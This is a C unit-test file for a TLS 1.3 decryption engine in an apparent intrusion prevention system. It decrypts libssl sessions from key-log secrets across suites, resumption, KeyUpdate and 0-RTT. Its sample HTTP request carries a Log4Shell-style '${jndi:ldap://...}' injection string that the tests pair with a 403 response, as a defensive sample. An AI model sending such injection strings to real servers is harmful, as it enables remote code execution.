/*
 * TLS 1.3 against real peers (libssl over memory BIOs), secrets from the
 * client's key log: every suite, HelloRetryRequest, KeyUpdate both ways,
 * PSK resumption, secrets arriving after the records.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/num.h"
#include "tls/tls.h"
#include "tls/tls_cipher.h"
#include "tls/tls_keylog.h"
#include "tls_peer.h"

struct fixture {
	struct tls_keylog *kl;
	struct tls_engine *te;
	struct tp_collect got;
};

static void
fixture_init(struct fixture *f, bool live)
{
	memset(f, 0, sizeof(*f));
	f->kl = tls_keylog_new(NULL);
	struct tls_sink sink = { &f->got, tp_collect_plaintext, NULL };
	f->te = tls_engine_new(NULL, NULL, &sink);
	tls_engine_set_keylog(f->te, f->kl, live);
}

static void
fixture_fini(struct fixture *f)
{
	tls_engine_free(f->te);
	tls_keylog_free(f->kl);
	tp_collect_free(&f->got);
}

static void
add_keylog(struct fixture *f, const struct tp_trace *t)
{
	struct tls_keylog_src src = { "test", 0 };
	assert_int_equal(tls_keylog_add_text(f->kl, &src, t->keylog, t->keylog_len, true, 0),
			 t->keylog_len);
}

static struct tls_conn *
feed_all(struct fixture *f, const struct tp_trace *t)
{
	struct tls_conn *c = tls_conn_new(f->te, NULL, false);
	for (size_t i = 0; i < t->nchunks; i++)
		tls_conn_feed(c, (enum tls_dir)t->chunks[i].dir, t->bytes + t->chunks[i].off,
			      t->chunks[i].len);
	return c;
}

static void
assert_plaintext(const struct fixture *f, const struct tp_trace *t)
{
	for (int d = 0; d < 2; d++) {
		assert_int_equal(f->got.len[d], t->sent_len[d]);
		if (t->sent_len[d])
			assert_memory_equal(f->got.b[d], t->sent[d], t->sent_len[d]);
	}
}

static const uint8_t request[] = "GET /${jndi:ldap://x/a} HTTP/1.1\r\nHost: tlsips.test\r\n\r\n";
static const uint8_t response[] = "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n";

/* A TLS 1.3 session; key_updates: KeyUpdates from each side in the middle. */
static void
make_session(struct tp_trace *t, const struct tp_options *o, bool key_updates, SSL_SESSION **sess)
{
	struct tp_peers p;
	tp_trace_init(t);
	assert_true(tp_peers_new(&p, o, tp_identity_get(0), sess ? *sess : NULL, t));
	assert_true(tp_handshake(&p));
	assert_true(tp_send(&p, 0, request, sizeof(request) - 1));
	if (key_updates) {
		assert_true(tp_key_update(&p, 0));
		assert_true(tp_send(&p, 0, request, sizeof(request) - 1));
		assert_true(tp_key_update(&p, 1));
		assert_true(tp_key_update(&p, 1));
	}
	assert_true(tp_send(&p, 1, response, sizeof(response) - 1));
	if (sess) {
		if (*sess)
			assert_true(SSL_session_reused(p.c));
		SSL_SESSION_free(*sess);
		*sess = SSL_get1_session(p.c);
	}
	tp_close(&p);
	tp_peers_free(&p);
}

static void
check(const struct tp_trace *t, const char *suite_iana)
{
	struct fixture f;
	fixture_init(&f, false);
	add_keylog(&f, t);
	struct tls_conn *c = feed_all(&f, t);
	tls_conn_end(c);
	const struct tls_conn_info *info = tls_conn_info(c);
	if (!info->decrypted || info->reason)
		print_error("%s: %s\n", suite_iana, tls_reason_name(info->reason));
	assert_true(info->decrypted);
	assert_int_equal(info->reason, TLS_REASON_NONE);
	assert_int_equal(info->version, TLS_V_TLS13);
	assert_string_equal(info->suite->iana, suite_iana);
	assert_int_equal(info->key_source, TLS_KEY_SOURCE_KEYLOG);
	assert_plaintext(&f, t);
	assert_int_equal(tls_keylog_stats(f.kl)->entries, 0); /* secrets taken and wiped */
	tls_conn_free(c);
	fixture_fini(&f);
}

static void
test_every_tls13_suite_decrypts(void **state)
{
	(void)state;
	static const char *const suites[] = {
		"TLS_AES_128_GCM_SHA256", "TLS_AES_256_GCM_SHA384", "TLS_CHACHA20_POLY1305_SHA256",
		"TLS_AES_128_CCM_SHA256", "TLS_AES_128_CCM_8_SHA256",
	};
	for (size_t i = 0; i < sizeof(suites) / sizeof(suites[0]); i++) {
		struct tp_options o = { suites[i], TLS1_3_VERSION, false, false, false, false, false };
		struct tp_trace t;
		make_session(&t, &o, false, NULL);
		check(&t, suites[i]);
		tp_trace_fini(&t);
	}
}

static void
test_hello_retry_request(void **state)
{
	(void)state;
	struct tp_options o = { "TLS_AES_256_GCM_SHA384", TLS1_3_VERSION, false, false, false, true, false };
	struct tp_trace t;
	make_session(&t, &o, false, NULL);
	check(&t, "TLS_AES_256_GCM_SHA384");
	tp_trace_fini(&t);
}

static void
test_key_update_both_directions(void **state)
{
	(void)state;
	struct tp_options o = { "TLS_CHACHA20_POLY1305_SHA256", TLS1_3_VERSION, false, false, false,
				false, false };
	struct tp_trace t;
	make_session(&t, &o, true, NULL);
	check(&t, "TLS_CHACHA20_POLY1305_SHA256");
	tp_trace_fini(&t);
}

static void
test_psk_resumption(void **state)
{
	(void)state;
	struct tp_options o = { "TLS_AES_128_GCM_SHA256", TLS1_3_VERSION, false, false, false, false, false };
	struct tp_trace t1, t2;
	SSL_SESSION *sess = NULL;
	make_session(&t1, &o, false, &sess);
	make_session(&t2, &o, false, &sess); /* resumes: asserted inside */
	SSL_SESSION_free(sess);
	check(&t2, "TLS_AES_128_GCM_SHA256");
	/* Resumption is reported: the ServerHello's pre_shared_key. */
	struct fixture f;
	fixture_init(&f, false);
	add_keylog(&f, &t2);
	struct tls_conn *c = feed_all(&f, &t2);
	assert_int_equal(tls_conn_info(c)->resumed, TLS_RESUME_TICKET);
	tls_conn_free(c);
	fixture_fini(&f);
	fixture_init(&f, false);
	add_keylog(&f, &t1);
	c = feed_all(&f, &t1);
	assert_int_equal(tls_conn_info(c)->resumed, TLS_RESUME_NONE);
	tls_conn_free(c);
	fixture_fini(&f);
	tp_trace_fini(&t1);
	tp_trace_fini(&t2);
}

static void
test_zero_rtt_early_data(void **state)
{
	(void)state;
	struct tp_options o = { "TLS_AES_128_GCM_SHA256", TLS1_3_VERSION, false, false, false, false,
				true };
	struct tp_trace t1, t2;
	struct tp_peers p;
	SSL_SESSION *sess = NULL;
	make_session(&t1, &o, false, &sess);
	assert_true(SSL_SESSION_get_max_early_data(sess) > 0);
	tp_trace_init(&t2);
	assert_true(tp_peers_new(&p, &o, tp_identity_get(0), sess, &t2));
	assert_true(tp_handshake_early(&p, request, sizeof(request) - 1));
	assert_true(tp_send(&p, 1, response, sizeof(response) - 1));
	tp_close(&p);
	tp_peers_free(&p);
	SSL_SESSION_free(sess);
	assert_non_null(strstr(t2.keylog, "CLIENT_EARLY_TRAFFIC_SECRET"));
	check(&t2, "TLS_AES_128_GCM_SHA256");
	tp_trace_fini(&t1);
	tp_trace_fini(&t2);
}

static void
test_secrets_after_the_records(void **state)
{
	(void)state;
	struct tp_options o = { "TLS_AES_128_GCM_SHA256", TLS1_3_VERSION, false, false, false, false, false };
	struct tp_trace t;
	struct fixture f;
	make_session(&t, &o, true, NULL);
	fixture_init(&f, true);
	struct tls_conn *c = feed_all(&f, &t);
	assert_true(tls_conn_is_waiting(c));
	assert_int_equal(f.got.len[0] + f.got.len[1], 0);
	/* Lines one at a time, as a server sends them: the last one releases the session. */
	const char *line = t.keylog;
	struct tls_keylog_src src = { "test", 0 };
	while (*line) {
		const char *nl = strchr(line, '\n');
		uint8_t cr[32];
		tls_keylog_add_text(f.kl, &src, line, (size_t)(nl - line + 1), true, 0);
		assert_int_equal(num_parse_hex(strchr(line, ' ') + 1, 64, cr, 32), 0);
		tls_engine_keys_added(f.te, cr);
		line = nl + 1;
	}
	assert_false(tls_conn_is_waiting(c));
	tls_conn_end(c);
	assert_true(tls_conn_info(c)->decrypted);
	assert_int_equal(tls_conn_info(c)->reason, TLS_REASON_NONE);
	assert_plaintext(&f, &t);
	tls_conn_free(c);
	fixture_fini(&f);
	tp_trace_fini(&t);
}

/* Adds the lines of the trace's key log whose label is (or is not) label. */
static void
add_lines(struct fixture *f, const struct tp_trace *t, const char *label, bool matching)
{
	struct tls_keylog_src src = { "test", 0 };
	for (const char *line = t->keylog; *line;) {
		const char *nl = strchr(line, '\n');
		bool is = strncmp(line, label, strlen(label)) == 0 && line[strlen(label)] == ' ';
		if (is == matching) {
			uint8_t cr[32];
			tls_keylog_add_text(f->kl, &src, line, (size_t)(nl - line + 1), true, 0);
			assert_int_equal(num_parse_hex(strchr(line, ' ') + 1, 64, cr, 32), 0);
			tls_engine_keys_added(f->te, cr);
		}
		line = nl + 1;
	}
}

/*
 * Inline order: an OpenSSL server logs CLIENT_TRAFFIC_SECRET_0 only after it
 * has read the client's Finished. The session must get past that Finished
 * with the handshake secrets alone and say that it holds no application
 * data (so an inline tlsips lets the Finished through), then hold the
 * request until the client's traffic secret comes.
 */
static void
test_client_traffic_secret_after_finished(void **state)
{
	(void)state;
	struct tp_options o = { "TLS_AES_256_GCM_SHA384", TLS1_3_VERSION, false, false, false, false, false };
	struct tp_trace t;
	struct fixture f;
	make_session(&t, &o, false, NULL);
	fixture_init(&f, true);
	add_lines(&f, &t, "CLIENT_TRAFFIC_SECRET_0", false);
	struct tls_conn *c = tls_conn_new(f.te, NULL, false);
	int client_chunks_waiting = 0;
	for (size_t i = 0; i < t.nchunks; i++) {
		tls_conn_feed(c, (enum tls_dir)t.chunks[i].dir, t.bytes + t.chunks[i].off,
			      t.chunks[i].len);
		if (t.chunks[i].dir != TLS_DIR_CLIENT || !tls_conn_is_waiting(c))
			continue;
		/* The first waiting client chunk is the Finished; the next is the request. */
		assert_int_equal(tls_conn_holds_app_data(c), client_chunks_waiting > 0);
		client_chunks_waiting++;
	}
	assert_true(client_chunks_waiting >= 2); /* Finished, request (and close_notify) */
	assert_true(tls_conn_is_waiting(c));
	assert_int_equal(f.got.len[TLS_DIR_CLIENT], 0);
	assert_int_equal(f.got.len[TLS_DIR_SERVER], t.sent_len[TLS_DIR_SERVER]); /* not held */
	add_lines(&f, &t, "CLIENT_TRAFFIC_SECRET_0", true);
	assert_false(tls_conn_is_waiting(c));
	assert_false(tls_conn_holds_app_data(c));
	tls_conn_end(c);
	assert_true(tls_conn_info(c)->decrypted);
	assert_int_equal(tls_conn_info(c)->reason, TLS_REASON_NONE);
	assert_plaintext(&f, &t);
	assert_int_equal(tls_keylog_stats(f.kl)->entries, 0);
	tls_conn_free(c);
	fixture_fini(&f);
	tp_trace_fini(&t);
}

/* Offline, a key log without a direction's traffic secret stops that direction only. */
static void
test_missing_traffic_secret_offline(void **state)
{
	(void)state;
	struct tp_options o = { "TLS_AES_128_GCM_SHA256", TLS1_3_VERSION, false, false, false, false, false };
	struct tp_trace t;
	struct fixture f;
	make_session(&t, &o, false, NULL);
	fixture_init(&f, false);
	add_lines(&f, &t, "CLIENT_TRAFFIC_SECRET_0", false);
	struct tls_conn *c = feed_all(&f, &t);
	tls_conn_end(c);
	assert_int_equal(tls_conn_info(c)->reason, TLS_REASON_NO_KEYLOG_ENTRY);
	assert_int_equal(f.got.len[TLS_DIR_CLIENT], 0);
	assert_int_equal(f.got.len[TLS_DIR_SERVER], t.sent_len[TLS_DIR_SERVER]);
	tls_conn_free(c);
	fixture_fini(&f);
	tp_trace_fini(&t);
}

static void
test_without_key_log_tls13_is_unsupported(void **state)
{
	(void)state;
	struct tp_options o = { "TLS_AES_128_GCM_SHA256", TLS1_3_VERSION, false, false, false, false, false };
	struct tp_trace t;
	make_session(&t, &o, false, NULL);
	struct tp_collect got = { { NULL, NULL }, { 0, 0 }, 0 };
	struct tls_sink sink = { &got, tp_collect_plaintext, NULL };
	struct tls_engine *te = tls_engine_new(NULL, NULL, &sink);
	struct tls_conn *c = tls_conn_new(te, NULL, false);
	for (size_t i = 0; i < t.nchunks; i++)
		tls_conn_feed(c, (enum tls_dir)t.chunks[i].dir, t.bytes + t.chunks[i].off,
			      t.chunks[i].len);
	assert_int_equal(tls_conn_info(c)->reason, TLS_REASON_UNSUPPORTED_SUITE);
	assert_int_equal(got.len[0] + got.len[1], 0);
	tls_conn_free(c);
	tls_engine_free(te);
	tp_trace_fini(&t);
}

int
main(void)
{
	tls_cipher_providers_load();
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_every_tls13_suite_decrypts),
		cmocka_unit_test(test_hello_retry_request),
		cmocka_unit_test(test_key_update_both_directions),
		cmocka_unit_test(test_psk_resumption),
		cmocka_unit_test(test_zero_rtt_early_data),
		cmocka_unit_test(test_secrets_after_the_records),
		cmocka_unit_test(test_client_traffic_secret_after_finished),
		cmocka_unit_test(test_missing_traffic_secret_offline),
		cmocka_unit_test(test_without_key_log_tls13_is_unsupported),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	tp_identity_cleanup();
	return rc;
}
